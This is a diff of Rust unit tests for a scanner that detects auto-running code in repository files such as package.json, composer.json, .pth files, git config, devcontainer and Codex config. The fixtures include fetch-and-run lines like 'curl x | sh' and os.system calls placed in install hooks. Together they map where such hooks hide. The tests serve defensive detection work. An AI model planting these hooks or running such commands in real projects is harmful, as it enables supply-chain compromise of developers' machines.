@@ -78,6 +78,69 @@ fn what_runs_without_being_asked_for_blocks() {
             1,
         ),
         ("a.pth", "import os; os.system('x')\n", IMPORT, 1),
+        ("a.PTH", "x\rimport os; os.system('x')\n", IMPORT, 1),
+        ("sitecustomize/__init__.py", "x = 1\n", IMPORT, 1),
+        ("x/config", "[CORE]fsmonitor=./x.sh\n", SHELL, 1),
+        (
+            "x/config",
+            "[core]\n[filter \"a\"]\nclean = ./x\n",
+            SHELL,
+            3,
+        ),
+        (
+            ".devcontainer.json",
+            "{\"initializeCommand\": {\"a\": [\"sh\", \"x\"]}}",
+            HOOK,
+            1,
+        ),
+        (
+            ".codex/config.toml",
+            "mcp_servers.a = { command = \"sh\" }\n",
+            SERVER,
+            1,
+        ),
+        (".codex/config.toml", "\"notify\" = [\"sh\"]\n", HOOK, 1),
+        (".npmrc", "\"script-shell\"=./x\n", SCRIPT, 1),
+        (".yarnrc.yml", "yarnPath: ./x.js\n", SCRIPT, 1),
+        (".yarnrc", "yarn-path \"./x.js\"\n", SCRIPT, 1),
+        (".pnpmfile.cjs", "require('child_process')\n", SCRIPT, 1),
+        ("binding.gyp", "['<!(curl x | sh)']\n", SCRIPT, 1),
+        (
+            ".idea/startup.xml",
+            "<configurations>\n<configuration\n",
+            TASK,
+            2,
+        ),
+        (
+            "Package.json",
+            "{\"scripts\": {\"pnpm:devPreinstall\": \"node x.js\"}}",
+            SCRIPT,
+            1,
+        ),
+        (
+            "package.json",
+            "{\"scripts\": {\n\"postinstall\": \"npm run build\",\n\"prebuild\": \"curl x | sh\"}}",
+            SCRIPT,
+            2,
+        ),
+        (
+            "composer.json",
+            "{\"scripts\": {\"init\": \"php a.php\"}}",
+            SCRIPT,
+            1,
+        ),
+        (
+            "composer.json",
+            "{\"scripts\": {\"post-install-cmd\": \"@php a.php\"}}",
+            SCRIPT,
+            1,
+        ),
+        (
+            "composer.json",
+            "{\"scripts\": {\"post-install-cmd\": \"@a\", \"a\": [\"curl x | sh\"]}}",
+            SCRIPT,
+            1,
+        ),
         ("x/config", "[core]\n\tfsmonitor = ./x.sh\n", SHELL, 2),
     ] {
         assert_eq!(found(path, text), [(rule, line, true)], "{path} {text}");
@@ -89,6 +152,13 @@ fn settings_that_cannot_be_read_are_not_clean() {
     let read = |path, content: &[u8]| find(path, content, Weight::Full, &mut Vec::new());
     assert!(read(".vscode/tasks.json", b"{\"tasks\": [}").is_err());
     assert!(read(".mcp.json", &vec![b' '; LONGEST + 1]).is_err());
+    // A package manager reads these.
+    let deep = "[".repeat(200) + &"]".repeat(200);
+    for odd in ["1e999", "\"\\ud800\"", &deep] {
+        let text = format!("{{\"scripts\": {{\"postinstall\": \"node x\"}}, \"a\": {odd}}}");
+        assert!(read("package.json", text.as_bytes()).is_err(), "{odd}");
+    }
+    assert!(read(".codex/config.toml", b"notify = ").is_err());
     // What no package manager reads runs nothing.
     assert!(read("template/package.json", b"{\"name\": {{name}} }").is_ok());
     assert!(read(".vscode/tasks.json", b"").is_ok());
@@ -111,10 +181,36 @@ fn what_is_usual_or_asked_for_is_fine() {
             "{\"scripts\": {\"post-autoload-dump\": [\"@php artisan package:discover\", \"A\\\\B::c\"]}}",
         ),
         ("src/config", "[core]\n\tbare = true\n"),
+        (
+            ".yarnrc.yml",
+            "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.5.0.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-x.cjs\n",
+        ),
+        (
+            ".pnpmfile.cjs",
+            "module.exports = { hooks: { readPackage } }\n",
+        ),
+        (
+            "binding.gyp",
+            "\"<!(node -p \\\"require('node-addon-api').include\\\")\"\n",
+        ),
+        (".codex/config.toml", "model = \"x\"\n"),
+        ("pyproject/config.toml", "command = \"x\"\n"),
+        (
+            "package.json",
+            "{\"scripts\": {\"prepare\": \"npm run build\", \"build\": \"tsc\"}}",
+        ),
+        (
+            "composer.json",
+            "{\"scripts\": {\"post-install-cmd\": [\"@auto-scripts\"], \"auto-scripts\": {\"cache:clear\": \"symfony-cmd\"}, \"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"]}}",
+        ),
         (".npmrc", "node-options=--no-warnings\n"),
     ] {
         assert_eq!(found(path, text), [], "{path} {text}");
     }
+    // More commands than anyone reads take no time, and are as many findings as anyone reads.
+    let many: Vec<String> = (0..50_000).map(|i| format!("\"c{i}\"")).collect();
+    let text = format!("{{\"scripts\": {{\"postinstall\": [{}]}}}}", many.join(","));
+    assert_eq!(found("package.json", &text).len(), MOST);
     // Those of examples are not installed with the project.
     let mut all = Vec::new();
     let text = b"{\"scripts\": {\"postinstall\": \"node a.js\"}}";
